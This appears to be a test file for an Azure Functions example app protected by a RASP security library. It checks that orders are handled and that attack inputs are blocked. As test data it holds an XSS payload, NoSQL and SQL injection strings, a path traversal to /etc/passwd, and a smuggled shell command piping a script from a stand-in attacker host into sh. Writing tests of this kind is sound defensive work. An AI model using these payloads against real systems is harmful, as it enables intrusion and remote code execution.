/**
 * examples/azure-functions: a Func Core Tools v4 app. It type-checks against the package by name and
 * compiles where package.json "main" says the host will look; its registration modules load (outside
 * the Functions host `app.http` only logs that it skips registration, which is why the handlers are
 * exported too), and the handlers answer real `HttpRequest` / `InvocationContext` objects from
 * @azure/functions as the worker builds them.
 */
import t from 'tap';
import fs from 'node:fs';
import path from 'node:path';
import { HttpRequest, InvocationContext, type HttpResponseInit, type InvocationContextInit } from '@azure/functions';
import { order, stage, tsc } from './helpers';

type Any = any;

const example = stage('azure-functions');
t.teardown(example.cleanup);
const dir = example.dir;
const BASE = 'http://localhost:7071';

t.test('host.json, local settings and package.json "main" as Core Tools v4 expects', async (t) => {
  const host = JSON.parse(fs.readFileSync(path.join(dir, 'host.json'), 'utf8')) as Any;
  t.equal(host.version, '2.0');
  t.equal(host.extensionBundle.id, 'Microsoft.Azure.Functions.ExtensionBundle');
  t.equal(host.extensionBundle.version, '[4.*, 5.0.0)');
  const settings = JSON.parse(fs.readFileSync(path.join(dir, 'local.settings.json.example'), 'utf8')) as Any;
  t.equal(settings.Values.FUNCTIONS_WORKER_RUNTIME, 'node');
  t.ok(settings.Values.AzureWebJobsStorage, 'storage for the queue trigger');
  t.equal(example.pkg.main, 'dist/src/functions/*.js');
  t.match(example.pkg.scripts?.start ?? '', /func start/);
  for (const f of fs.readdirSync(path.join(dir, 'src/functions'))) {
    t.match(fs.readFileSync(path.join(dir, 'src/functions', f), 'utf8'), /from 'serverless-rasp\/azure-functions'/, `${f}: imported by package name`);
  }
});

t.test('type-checks and compiles to the files "main" points at', async (t) => {
  const r = tsc(dir);
  t.equal(r.status, 0, r.output);
  const compiled = fs.readdirSync(path.join(dir, 'dist/src/functions')).filter((f) => f.endsWith('.js')).sort();
  t.same(compiled, ['fulfil.js', 'orders.js']);
});

let seq = 0;
function context(functionName: string, trigger: Record<string, unknown>, extra: Partial<InvocationContextInit> = {}): { ctx: InvocationContext; logs: string[] } {
  const logs: string[] = [];
  const ctx = new InvocationContext({
    invocationId: `5f0c2d9e-1a2b-4c3d-8e4f-${String(++seq).padStart(12, '0')}`,
    functionName,
    logHandler: (_level, ...args) => logs.push(args.map(String).join(' ')),
    ...extra,
    options: { trigger: trigger as Any, extraOutputs: (extra.options?.extraOutputs ?? []) as Any, extraInputs: [] },
  });
  return { ctx, logs };
}

t.test('the registered handlers, invoked with real HttpRequest and InvocationContext objects', async (t) => {
  const securityEvents: Any[] = [];
  const write = process.stdout.write.bind(process.stdout);
  // Security events are JSON lines on stdout; keep them, pass everything else through.
  process.stdout.write = ((chunk: Any, ...rest: Any[]) => {
    const s = String(chunk);
    if (s.startsWith('{"time"') && s.includes('"serverless-rasp"')) {
      securityEvents.push(JSON.parse(s));
      return true;
    }
    return write(chunk, ...rest);
  }) as typeof process.stdout.write;
  t.teardown(() => {
    process.stdout.write = write;
  });

  const orders = require(path.join(dir, 'dist/src/functions/orders.js')) as Any;
  const fulfil = require(path.join(dir, 'dist/src/functions/fulfil.js')) as Any;
  const httpTrigger = (methods: string[]) => ({ type: 'httpTrigger', name: 'request', methods, route: 'orders', authLevel: 'anonymous' });
  const queueTrigger = { type: 'queueTrigger', name: 'queueItem', queueName: 'orders', connection: 'AzureWebJobsStorage' };
  const post = (body: unknown) =>
    new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json', 'x-forwarded-for': '203.0.113.9' }, body: { string: JSON.stringify(body) } });
  const create = async (body: unknown) => {
    const { ctx } = context('createOrder', httpTrigger(['POST']), { options: { extraOutputs: [orders.ordersQueue] } as Any });
    const res = (await orders.createOrder(post(body), ctx)) as HttpResponseInit;
    return { res, queued: ctx.extraOutputs.get(orders.ordersQueue) as Any, ctx };
  };

  // POST /api/orders
  const ok = await create(order());
  t.equal(ok.res.status, 202, 'a valid order is accepted');
  t.equal(ok.queued.customer.name, "Ann O'Neil", 'and put on the queue through the output binding');
  t.match(ok.queued.id, /^[0-9a-f-]{36}$/);

  const xss = await create(order({ note: '<svg onload=alert(document.domain)>' }));
  t.equal(xss.res.status, 403, 'XSS in the body: 403');
  t.same(JSON.parse(xss.res.body as string), { error: 'blocked', requestId: xss.ctx.invocationId });
  t.equal(xss.queued, undefined, 'nothing queued');

  const nosql = await create(order({ customer: { name: { $ne: null }, email: 'x@example.com' } }));
  t.equal(nosql.res.status, 403, 'NoSQL operator in the body: 403');

  const invalid = await create(order({ items: [{ sku: 'TSHIRT-42', qty: 1000 }] }));
  t.equal(invalid.res.status, 400, 'schema violation: 400');
  t.equal(JSON.parse(invalid.res.body as string).error, 'invalid_request');

  // GET /api/orders?q=
  const search = async (q: string) => {
    const { ctx } = context('searchOrders', httpTrigger(['GET']));
    return (await orders.searchOrders(new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent(q)}&page=2` }), ctx)) as HttpResponseInit;
  };
  const found = await search('blue mug');
  t.equal(found.status, 200);
  t.same(found.jsonBody, { q: 'blue mug', results: [] });
  t.equal((await search("mug' OR 1=1 -- ")).status, 403, 'SQL injection in the query: 403');
  t.equal((await search('../../../../etc/passwd')).status, 403, 'path traversal in the query: 403');

  // Storage queue `orders`
  const consume = async (message: unknown) => {
    const { ctx, logs } = context('fulfilOrder', queueTrigger, { triggerMetadata: { id: `msg-${seq}`, dequeueCount: 1, queueTrigger: JSON.stringify(message) } });
    try {
      await fulfil.fulfilOrder(message, ctx);
      return { ok: true, logs };
    } catch (err) {
      return { ok: false, err: err as Any, logs };
    }
  };
  const clean = await consume(ok.queued);
  t.ok(clean.ok, 'the queued order is fulfilled');
  t.match(clean.logs.join('\n'), /order fulfilled/);

  const poisoned = await consume({ ...ok.queued, note: '; curl http://attacker.example/x | sh' });
  t.notOk(poisoned.ok, 'a poisoned message fails the invocation (retried, then orders-poison)');
  t.equal(poisoned.err.code, 'RASP_ERR_BLOCKED');
  t.equal(poisoned.err.name, 'RequestBlockedError');
  t.notMatch(poisoned.err.message, /attacker\.example/, 'the error names the rule and path, not the payload');
  t.same(poisoned.logs, [], 'the handler did not run');

  const forged = await consume({ customer: { name: 'x', email: 'x@example.com' }, items: [{ sku: 'A-1', qty: 1 }] });
  t.notOk(forged.ok, 'a message without the id createOrder gives it fails the schema');

  t.same(
    securityEvents.map((e) => `${e.function} ${e.action} ${[...new Set((e.findings as Any[]).map((f) => f.class))].sort().join('+')}`),
    [
      'createOrder block xss',
      'createOrder block nosqli+schema',
      'createOrder block schema',
      'searchOrders block sqli',
      'searchOrders block path-traversal',
      'fulfilOrder block shell',
      'fulfilOrder block schema',
    ],
    'one security event per blocked invocation',
  );
  t.ok(securityEvents.every((e) => e.provider === 'azure'));
});
